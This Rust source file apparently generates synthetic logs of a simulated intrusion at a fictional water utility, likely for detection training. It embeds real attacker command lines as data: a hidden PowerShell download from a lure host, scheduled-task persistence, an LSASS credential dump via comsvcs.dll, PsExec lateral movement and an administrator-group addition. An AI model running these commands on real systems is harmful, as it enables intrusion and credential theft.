//! The first half: from the mail to a desktop on the jump host.
//!
//! ```text
//! OUTLOOK ─▶ WINWORD ─▶ wscript ─▶ powershell ─▶ upd.exe ─▶ cmd ─▶ rundll32 (LSASS)
//!                                                              └──▶ PsExec ─▶ JUMP01
//! ```
//!
//! Nothing here touches the plant.

use super::{IMPLANT, VICTIM, begin, mark, run, run_in_office};
use crate::water_utility::Span;
use crate::water_utility::clock::{MILLI, MINUTE, SECOND};
use crate::water_utility::plant::{HELP_DESK, JUMP01, LURE_HOST, LURE_MAIL, MAIL01, OFFICE07};
use crate::water_utility::programs::{CMD, LSASS, MSTSC, OUTLOOK, POWERSHELL, SERVICES, WINWORD};
use crate::water_utility::tape::{Log, Stage};
use crate::water_utility::windows::{Launch, Process, SYSTEM, security, sid, subject};
use crate::water_utility::zeek::{Flow, Wire, lasting};

const TASK: &str = concat!(
    r#"<?xml version="1.0" encoding="UTF-16"?><Task><Triggers><TimeTrigger><Repetition><Interval>PT30M</Interval>"#,
    r#"</Repetition></TimeTrigger></Triggers><Actions Context="Author"><Exec>"#,
    r#"<Command>C:\Users\Public\Libraries\upd.exe</Command></Exec></Actions></Task>"#
);

/// Mail, document, script, download, task. The answer is the implant.
pub(super) fn enter(stage: &mut Stage<'_>, span: Span) -> Process {
    begin(stage, "lure_mail");
    let at = mark(stage, span, 325);
    let wire = Wire::new(&mut stage.chance, LURE_MAIL, MAIL01.address, 25);
    stage.conn(at, &wire, Flow { service: "smtp,ssl", micros: 2_300 * MILLI, sent: 214_000, received: 1_900 });
    let at = at.plus(stage.chance.between(60, 120) * SECOND);
    let mail = Process::standing(OFFICE07, VICTIM, OUTLOOK);
    let document =
        r"C:\Users\mkeller\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QX2\delivery-note.docm";
    stage.creates_file(at, OFFICE07, &mail, document);
    let command = format!(r#""{WINWORD}" /n "{document}""#);
    let word = run_in_office(stage, at.plus(300 * MILLI), &mail, (WINWORD, &command));

    begin(stage, "script_host");
    let at = at.plus(19 * SECOND);
    let script = r"C:\Users\mkeller\AppData\Local\Temp\note.vbs";
    stage.creates_file(at, OFFICE07, &word, script);
    let command = format!(r#"wscript.exe //B "{script}""#);
    let host = run_in_office(stage, at.plus(200 * MILLI), &word, (r"C:\Windows\System32\wscript.exe", &command));

    begin(stage, "download");
    let at = at.plus(2 * SECOND);
    let command = format!(
        "powershell.exe -NoProfile -WindowStyle Hidden -Command \"(New-Object Net.WebClient).DownloadFile('https://{}/n.dat','{IMPLANT}')\"",
        LURE_HOST.0
    );
    let shell = run_in_office(stage, at, &host, (POWERSHELL, &command));
    stage.visit(at.plus(800 * MILLI), OFFICE07, &shell, LURE_HOST, 486_400);
    stage.creates_file(at.plus(3 * SECOND), OFFICE07, &shell, IMPLANT);
    let implant = run_in_office(stage, at.plus(4 * SECOND), &shell, (IMPLANT, IMPLANT));

    begin(stage, "persistence");
    let at = at.plus(stage.chance.between(100, 200) * SECOND);
    let command = format!(r#"schtasks /create /f /tn "Parcel Update" /sc minute /mo 30 /tr {IMPLANT}"#);
    run_in_office(stage, at, &implant, (r"C:\Windows\System32\schtasks.exe", &command));
    let record = subject(security(at.plus(90 * MILLI), OFFICE07, 4698), OFFICE07, VICTIM)
        .with("TaskName", r"\Parcel Update")
        .with("TaskContent", TASK);
    stage.put(at.plus(90 * MILLI), Log::Windows, record);
    implant
}

/// The implant calls home until the attacker has a desktop of his own.
pub(super) fn beacon(stage: &mut Stage<'_>, span: Span, implant: &Process) {
    begin(stage, "command_channel");
    let mut at = mark(stage, span, 345);
    let end = mark(stage, span, 560);
    while at < end {
        let received = stage.chance.between(600, 5_000);
        stage.visit(at, OFFICE07, implant, LURE_HOST, received);
        at = at.plus(span.minutes * MINUTE / 80 + stage.chance.between(-20, 20) * SECOND);
    }
}

/// Who am I, and who else is here?
pub(super) fn look_around(stage: &mut Stage<'_>, span: Span, implant: &Process) {
    begin(stage, "discovery");
    let at = mark(stage, span, 360);
    let shell = run_in_office(stage, at, implant, (CMD, "cmd.exe"));
    let lines = [
        (r"C:\Windows\System32\whoami.exe", "whoami /all"),
        (r"C:\Windows\System32\net.exe", r#"net group "Plant Engineers" /domain"#),
        (r"C:\Windows\System32\nltest.exe", "nltest /dclist:water"),
        (r"C:\Windows\System32\PING.EXE", "ping -n 1 jump01"),
    ];
    for (number, line) in (1..).zip(lines) {
        let tool = run_in_office(stage, at.plus(number * 25 * SECOND), &shell, line);
        stage.process_end(at.plus(number * 25 * SECOND + 800 * MILLI), OFFICE07, &tool);
    }
}

/// The memory of LSASS goes into a file.
pub(super) fn steal_passwords(stage: &mut Stage<'_>, span: Span, implant: &Process) {
    begin(stage, "credential_dump");
    let at = mark(stage, span, 400);
    let shell = run_in_office(stage, at, implant, (CMD, "cmd.exe"));
    let command = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Users\Public\Libraries\m.bin full";
    let tool = run_in_office(stage, at.plus(20 * SECOND), &shell, (r"C:\Windows\System32\rundll32.exe", command));
    let lsass = Process::standing(OFFICE07, SYSTEM, LSASS);
    stage.opens_process(at.plus(20 * SECOND + 60 * MILLI), OFFICE07, &tool, &lsass, "0x1fffff");
    stage.creates_file(at.plus(20 * SECOND + 90 * MILLI), OFFICE07, &tool, r"C:\Users\Public\Libraries\m.bin");
    stage.process_end(at.plus(23 * SECOND), OFFICE07, &tool);
}

/// PsExec to the jump host, a new administrator there, and then his desktop.
pub(super) fn take_jump_host(stage: &mut Stage<'_>, span: Span) {
    begin(stage, "jump_host_service");
    let at = mark(stage, span, 500);
    let wire = Wire::new(&mut stage.chance, OFFICE07.address, JUMP01.address, 445);
    let micros = lasting(&mut stage.chance, 200_000, 320_000);
    stage.conn(at, &wire, Flow { service: "gssapi,smb,dce_rpc", micros, sent: 790_000, received: 44_000 });
    stage.logon(at.plus(60 * MILLI), JUMP01, HELP_DESK, 3, OFFICE07.address);
    stage.share_file(at.plus(200 * MILLI), &wire, "FILE_OPEN", r"\\JUMP01\ADMIN$", "PSEXESVC.exe", 716_176);
    for (tenths, operation) in [(6, "OpenSCManagerW"), (7, "CreateServiceW"), (9, "StartServiceW")] {
        stage.remote_call(at.plus(tenths * SECOND / 10), &wire, r"\pipe\svcctl", "svcctl", operation);
    }
    stage.installs_service(at.plus(750 * MILLI), JUMP01, "PSEXESVC", r"%SystemRoot%\PSEXESVC.exe", "demand start");
    stage.service_state(at.plus(980 * MILLI), JUMP01, "PSEXESVC", "running");
    let manager = Process::standing(JUMP01, SYSTEM, SERVICES);
    let image = r"C:\Windows\PSEXESVC.exe";
    let service = stage.process(at.plus(SECOND), JUMP01, &manager, Launch { account: SYSTEM, image, command: image });
    let shell = run(stage, at.plus(2 * SECOND), JUMP01, &service, HELP_DESK, (CMD, "cmd.exe"));

    begin(stage, "jump_host_admin");
    let at = at.plus(stage.chance.between(50, 90) * SECOND);
    let net = (r"C:\Windows\System32\net.exe", r"net localgroup Administrators WATER\mkeller /add");
    run(stage, at, JUMP01, &shell, HELP_DESK, net);
    let record = subject(security(at.plus(70 * MILLI), JUMP01, 4732), JUMP01, HELP_DESK)
        .with("MemberName", "-")
        .with("MemberSid", sid(VICTIM))
        .with("TargetUserName", "Administrators")
        .with("TargetDomainName", "Builtin")
        .with("TargetSid", "S-1-5-32-544");
    stage.put(at.plus(70 * MILLI), Log::Windows, record);

    begin(stage, "jump_host_desktop");
    let at = mark(stage, span, 530);
    let implant = Process::standing(OFFICE07, VICTIM, IMPLANT);
    run_in_office(stage, at, &implant, (MSTSC, "mstsc.exe /v:JUMP01"));
    let length = span.minutes * MINUTE * 40 / 100;
    stage.remote_desktop(at.plus(3 * SECOND), (OFFICE07.address, OFFICE07.name), JUMP01, VICTIM, length);
}
